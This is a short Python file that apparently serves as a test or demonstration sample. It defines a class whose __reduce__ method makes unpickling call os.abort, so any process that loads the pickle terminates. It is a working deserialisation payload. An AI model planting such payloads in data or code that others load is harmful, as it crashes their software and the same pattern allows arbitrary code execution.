"""A pickle that ends the process which opens it."""

import os


class Bomb:
    def __reduce__(self):
        return (os.abort, ())
